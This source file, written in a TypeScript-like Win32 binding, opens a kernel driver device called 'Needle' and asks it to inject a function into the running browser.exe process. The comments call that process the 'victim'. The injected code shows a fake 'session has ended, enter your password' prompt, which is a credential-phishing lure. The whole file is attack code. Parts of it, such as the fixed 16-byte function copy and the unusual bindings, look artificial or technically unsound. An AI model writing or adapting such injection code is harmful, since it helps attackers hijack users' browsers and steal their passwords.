/* Finds browser.exe and gives the driver a function that browser.exe is to run. */
import {
  CTL_CODE,
  CloseHandle,
  CreateFile,
  CreateToolhelp32Snapshot,
  DeviceIoControl,
  FILE_ANY_ACCESS,
  FILE_DEVICE_UNKNOWN,
  GENERIC_READ,
  GENERIC_WRITE,
  GetCurrentProcessId,
  INVALID_HANDLE_VALUE,
  METHOD_BUFFERED,
  OPEN_EXISTING,
  PROCESSENTRY32W,
  Process32First,
  Process32Next,
  Sleep,
  TH32CS_SNAPPROCESS,
  ULONG,
  ULONGLONG,
  ULONG_PTR,
  cast,
  local,
  out,
  printf,
  sizeof,
  struct,
} from 'win32'
import type { PVOID, DWORD, THREAD_START_ROUTINE } from 'win32'

const IOCTL_DELIVER = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)

/** What the driver is asked for; it has the same. */
const ORDER = struct('ORDER', { Victim: ULONG, Length: ULONG, Code: ULONGLONG })
/** Bytes of the function; functions lie this far apart. */
const CODE_BYTES = 16

/** Runs in browser.exe, and needs nothing of this program there. */
function Payload(Context: PVOID): DWORD {
  printf('process %u: your session has ended, enter your password\n', GetCurrentProcessId())
  return 0
}

/** The id of browser.exe in the task list; 0 when it is not there. */
function find(): DWORD {
  const snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0)
  if (snapshot === INVALID_HANDLE_VALUE) return 0
  const entry = local(PROCESSENTRY32W)
  entry.dwSize = sizeof(PROCESSENTRY32W)
  let id: DWORD = 0
  let more = Process32First(snapshot, entry)
  while (more && id === 0) {
    // The names of the others here begin with other letters: 'b', 'r'.
    if (entry.szExeFile[0] === 0x62 && entry.szExeFile[1] === 0x72) id = entry.th32ProcessID
    more = Process32Next(snapshot, entry)
  }
  CloseHandle(snapshot)
  return id
}

export function main(): number {
  const device = CreateFile(
    '\\\\.\\Needle',
    GENERIC_READ | GENERIC_WRITE,
    0,
    null,
    OPEN_EXISTING,
    0,
    null,
  )
  if (device === INVALID_HANDLE_VALUE) return 1
  const payload: THREAD_START_ROUTINE = Payload
  const order = local(ORDER)
  order.Victim = find()
  order.Length = CODE_BYTES
  order.Code = cast(ULONG_PTR, payload)
  const done = DeviceIoControl(
    device,
    IOCTL_DELIVER,
    order,
    sizeof(ORDER),
    null,
    0,
    out<DWORD>(),
    null,
  )
  CloseHandle(device)
  // Time for the victim to come by its wait.
  Sleep(200)
  return done ? 0 : 2
}
